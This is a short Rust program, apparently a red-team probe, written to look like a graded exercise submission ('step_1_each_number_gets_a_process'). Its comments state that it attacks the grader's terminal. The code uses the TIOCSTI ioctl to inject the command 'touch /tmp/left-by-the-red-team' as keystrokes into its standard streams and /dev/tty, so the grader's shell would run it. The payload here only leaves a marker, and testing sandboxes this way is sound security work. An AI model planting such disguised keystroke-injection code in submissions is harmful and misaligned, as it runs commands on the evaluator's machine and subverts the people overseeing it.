//! Types commands into whatever terminal it finds, for the instructor to run.
//! Attacks: the terminal of whoever grades.
//! Hands in: printers
//! Seen as: step_1_each_number_gets_a_process

use std::fs::File;
use std::os::fd::AsRawFd;

unsafe extern "C" {
    fn ioctl(descriptor: i32, request: u64, ...) -> i32;
}

const TIOCSTI: u64 = 0x5412;

fn main() {
    let terminal = File::options().read(true).write(true).open("/dev/tty");
    assert!(terminal.is_err(), "the sandbox shows a terminal");
    let own = [0, 1, 2];
    for descriptor in own.into_iter().chain(terminal.iter().map(|file| file.as_raw_fd())) {
        for byte in b"touch /tmp/left-by-the-red-team\n" {
            // Safety: the call reads one byte, which outlives it.
            unsafe { ioctl(descriptor, TIOCSTI, &raw const *byte) };
        }
    }
}
